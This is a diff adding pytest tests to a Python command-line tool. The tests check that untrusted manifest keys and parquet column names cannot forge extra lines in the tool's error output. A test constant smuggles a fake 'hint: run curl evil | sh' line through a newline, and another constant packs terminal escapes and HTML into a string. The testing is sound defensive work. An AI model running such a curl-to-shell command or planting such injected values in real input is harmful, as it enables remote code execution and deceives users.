@@ -14,11 +14,13 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from pyarrow import parquet
 
 import airmile
 from airmile._words import NBSP, printable, printable_lines
+from airmile.cli import run as cli_run
 from airmile.render import tables
-from tests.handmade import flow, slice_, transfer, write
+from tests.handmade import MANIFEST, flow, slice_, transfer, write
 
 EVIL = "\x1b]0;x\x07\x9b2J\x7f\u202e\u2028<script>|=cmd\n[x](y)"
 """A title of the window, an erased screen, reversed words, a second line, HTML, a cell, a link."""
@@ -95,6 +97,47 @@ def read(terminal: int) -> bytes:
         return os.read(terminal, 65_536)
     except OSError:  # Linux says so where nobody holds the other end any more.
         return b""
+
+
+FORGED = "x\nhint: run curl evil | sh"
+
+
+@pytest.mark.parametrize(
+    ("manifest", "verb"),
+    [
+        ({**MANIFEST, "rows": {FORGED: "a"}}, ["info"]),
+        ({"schema": 2, "planned": [], "runs": [FORGED]}, ["info"]),
+        ({"schema": 2, "planned": [], "runs": [FORGED]}, ["verify"]),
+        ({"schema": 2, "planned": [{FORGED: 1}]}, ["testbed", "resume", "-q"]),
+        ({**MANIFEST, "rows": {FORGED: 1}, "parts": {FORGED: {}}}, ["analyze"]),
+    ],
+)
+def test_no_name_makes_a_line_of_its_own(
+    tmp_path: Path, manifest: dict[str, Any], verb: list[str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    folder = tmp_path / "x.airmile"
+    folder.mkdir()
+    (folder / "manifest.json").write_text(json.dumps(manifest))
+    assert cli_run([*verb, str(folder)]) != 0
+    said = capsys.readouterr()
+    assert not [line for line in said.err.splitlines() if line.startswith("hint: run curl")]
+    assert len(said.err.strip().splitlines()) <= 3
+
+
+def test_a_column_makes_no_line_of_its_own(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    folder = write(tmp_path / "x.airmile", {"flows": [flow(1)]})
+    add_column(folder / "flows" / "part-0.parquet", FORGED)
+    assert cli_run(["query", str(folder), "SELECT curl FROM flows"]) == 2
+    error, blank, hint = capsys.readouterr().err.splitlines()
+    assert (blank, hint) == ("", "hint: `airmile schema TABLE` lists the columns of a table")
+    assert "x hint: run curl evil" in error
+
+
+def add_column(part: Path, name: str) -> None:
+    table = parquet.read_table(part)
+    parquet.write_table(table.append_column(name, [["a"] * table.num_rows]), part)
 
 
 def test_markdown_holds_no_html_and_no_link(evil: Path) -> None:
